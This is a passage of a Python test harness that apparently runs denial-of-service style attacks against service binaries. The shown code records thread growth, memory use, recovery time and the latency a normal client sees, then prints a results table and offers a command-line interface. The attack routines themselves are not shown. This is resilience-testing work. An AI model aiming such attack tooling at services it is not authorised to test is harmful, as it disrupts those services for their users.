        during = sampler.samples or [(0, *read_status(service.pid))]
        after = read_status(service.pid)
        alive = service.process.poll() is None
        in_attack = [c for c in calls if started <= c[0] <= left]
        latencies = [c[1] for c in in_attack if c[2] is None]
        errors = [c[2] for c in in_attack if c[2] is not None]
        result = Result(
            service=Path(binary).name,
            attack=attack,
            params=kwargs,
            attacker=attacker,
            idle_threads=idle_threads,
            idle_rss=idle_rss,
            max_threads=max(s[1] for s in during),
            max_rss=max(s[2] for s in during),
            rss_after=after[1] if after else 0,
            threads_after=after[0] if after else 0,
            recovered_seconds=None if recovered is None else round(recovered, 2),
            calls=len(in_attack),
            errors=len(errors),
            error_examples=sorted(set(errors))[:3],
            p50=percentile(latencies, 0.5),
            p99=percentile(latencies, 0.99),
            max_latency=max(latencies) if latencies else None,
            service_alive=alive,
        )
    finally:
        if probe is not None:
            probe.process.kill()
        if sampler is not None:
            sampler.stop()
        code = service.stop()
    if not alive:
        result.service_stderr_tail = service.stderr()[-2000:] + f"\n(exit {code})"
    if log:
        log(format_row(result))
    return result


# ---------------------------------------------------------------------------------------------
# Reporting
# ---------------------------------------------------------------------------------------------

COLUMNS = (
    f"{'service':<28} {'attack':<18} {'threads':>11} {'RSS MB':>16} {'after MB':>9} "
    f"{'back in':>8} {'calls':>6} {'errors':>6} {'p50 ms':>7} {'p99 ms':>8}"
)


def _mb(n: int) -> str:
    return f"{n / MIB:.0f}"


def _ms(s) -> str:
    return "-" if s is None else f"{s * 1000:.1f}"


def format_row(r: Result) -> str:
    back = "never" if r.recovered_seconds is None else f"{r.recovered_seconds:.1f}s"
    return (
        f"{r.service:<28} {r.attack:<18} {f'{r.idle_threads}->{r.max_threads}':>11} "
        f"{f'{_mb(r.idle_rss)}+{_mb(r.max_rss_above_idle)}':>16} "
        f"{'+' + _mb(r.rss_after_above_idle):>9} {back:>8} {r.calls:>6} {r.errors:>6} "
        f"{_ms(r.p50):>7} {_ms(r.p99):>8}"
    )


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--service", action="append", help="a service binary (repeatable)")
    parser.add_argument("--full", action="store_true", help="issue 15's counts")
    parser.add_argument("--attack", action="append", choices=sorted(ATTACKS), help="(repeatable)")
    parser.add_argument(
        "--set",
        action="append",
        default=[],
        metavar="KEY=VALUE",
        help="override an attack parameter, e.g. --set streams=1000",
    )
    parser.add_argument(
        "--settle",
        type=float,
        default=SETTLE_SECONDS,
        help="seconds the service gets to return its memory",
    )
    parser.add_argument("--json", help="also write the figures to this file")
    parser.add_argument("--probe", type=int, help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.probe is not None:
        return probe_main(args.probe)
    if not args.service:
        parser.error("give --service PATH")
    overrides = {}
    for item in args.set:
        key, _, value = item.partition("=")
        try:
            overrides[key] = json.loads(value)
        except json.JSONDecodeError:
            overrides[key] = value
    results = []
    print(COLUMNS, flush=True)
    for binary in args.service:
        for name in args.attack or list(ATTACKS):
            params = {
                k: v for k, v in overrides.items() if k in ATTACKS[name].run.__code__.co_varnames
            }
            r = run_attack(binary, name, params, full=args.full, settle=args.settle)
            results.append(r)
            print(format_row(r), flush=True)
            print(f"    attacker: {json.dumps(r.attacker)}", flush=True)
            if r.error_examples:
                print(f"    errors: {r.error_examples}", flush=True)
            if not r.service_alive:
                print(f"    SERVICE DIED: {r.service_stderr_tail}", flush=True)
    print(
        "threads: idle->max from the attack's start until the memory returned (or the settle "
        "time ended); RSS MB: idle+max above idle, same period; after MB: RSS above idle once "
        f"returned or after {args.settle:.0f} s; back in: time to within "
        f"{RECOVERED_WITHIN_BYTES // MIB} MB of idle after the attacker left; calls, errors, "
        "p50, p99: the well-behaved client's Steps during the attack"
    )
    if args.json:
        Path(args.json).write_text(json.dumps([r.as_dict() for r in results], indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main())
